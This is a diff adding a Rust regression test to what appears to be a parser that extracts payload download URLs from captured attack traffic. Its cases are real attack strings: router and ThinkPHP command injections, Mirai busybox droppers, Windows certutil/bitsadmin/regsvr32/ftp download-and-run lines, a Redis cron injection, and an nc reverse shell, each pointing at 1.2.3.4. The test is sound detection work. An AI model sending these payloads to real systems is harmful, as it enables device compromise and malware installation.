@@ -1762,6 +1762,53 @@ mod tests {
         assert_eq!(got, want, "attack: {:?}", String::from_utf8_lossy(attack));
     }
 
+    /// Forms checked after the module was written (issue 4 review), one per line of
+    /// attack seen in the wild: regressions, should any of them break.
+    #[test]
+    fn review_forms() {
+        let cases: &[(&str, &[&str])] = &[
+            (
+                "GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(cd+%2Ftmp%3B+rm+-rf+shk%3B+wget+http%3A%2F%2F1.2.3.4%2Fshk%3B+chmod+777+shk%3B+.%2Fshk+tplink%3B+rm+-rf+shk) HTTP/1.1\r\n\r\n",
+                &["http 1.2.3.4 - - - /shk shk"],
+            ),
+            (
+                "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\n\r\n<NewStatusURL>$(/bin/busybox wget -g 1.2.3.4 -l /tmp/mips -r /mips; /bin/busybox chmod 777 * /tmp/mips; /tmp/mips huawei.rep)</NewStatusURL>",
+                &["tftp 1.2.3.4 - - - /mips mips"],
+            ),
+            (
+                "GET /index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=wget%20http://1.2.3.4/t.sh%20-O%20/tmp/t.sh;sh%20/tmp/t.sh HTTP/1.1\r\n\r\n",
+                &["http 1.2.3.4 - - - /t.sh t.sh"],
+            ),
+            (
+                "cmd.exe /c certutil.exe -urlcache -split -f http://1.2.3.4:8888/win.exe C:\\Windows\\Temp\\svchost.exe & C:\\Windows\\Temp\\svchost.exe",
+                &["http 1.2.3.4 8888 - - /win.exe svchost.exe"],
+            ),
+            ("bitsadmin /transfer myjob /download /priority high http://1.2.3.4/x.exe %TEMP%\\x.exe", &["http 1.2.3.4 - - - /x.exe x.exe"]),
+            (
+                "*3\r\n$3\r\nset\r\n$1\r\n1\r\n$64\r\n\n\n*/1 * * * * curl -fsSL http://1.2.3.4/init.sh | sh\n\n\r\n",
+                &["http 1.2.3.4 - - - /init.sh init.sh"],
+            ),
+            ("GET /shell?cd+/tmp;rm+-rf+*;wget+1.2.3.4/jaws;sh+/tmp/jaws HTTP/1.1\r\n\r\n", &["http 1.2.3.4 - - - /jaws jaws"]),
+            (
+                "/bin/busybox wget http://1.2.3.4:80/bins/mirai.x86 -O - > dvrLocker; /bin/busybox chmod 777 dvrLocker; ./dvrLocker selfrep",
+                &["http 1.2.3.4 80 - - /bins/mirai.x86 dvrLocker"],
+            ),
+            ("python -c \"import urllib;urllib.urlretrieve('http://1.2.3.4/p.py','/tmp/p.py')\"", &["http 1.2.3.4 - - - /p.py p.py"]),
+            ("php -r \"file_put_contents('/tmp/x', file_get_contents('http://1.2.3.4/x'));\"", &["http 1.2.3.4 - - - /x x"]),
+            ("nc 1.2.3.4 4444 -e /bin/sh", &[]),
+            (
+                "echo open 1.2.3.4>x&echo anonymous>>x&echo a@b>>x&echo binary>>x&echo get svchost.exe>>x&echo quit>>x&ftp -s:x&svchost.exe",
+                &["ftp 1.2.3.4 - anonymous a@b svchost.exe svchost.exe"],
+            ),
+            ("regsvr32 /s /n /u /i:http://1.2.3.4/file.sct scrobj.dll", &["http 1.2.3.4 - - - /file.sct file.sct"]),
+            ("tftp.exe -i 1.2.3.4 get payload.exe C:\\payload.exe", &["tftp 1.2.3.4 - - - payload.exe payload.exe"]),
+            ("(wget -qO- http://1.2.3.4/i.sh || curl -s http://1.2.3.4/i.sh) | sh", &["http 1.2.3.4 - - - /i.sh i.sh"]),
+        ];
+        for (attack, want) in cases {
+            check(attack.as_bytes(), want);
+        }
+    }
+
     #[test]
     fn ftp_scripts() {
         check(
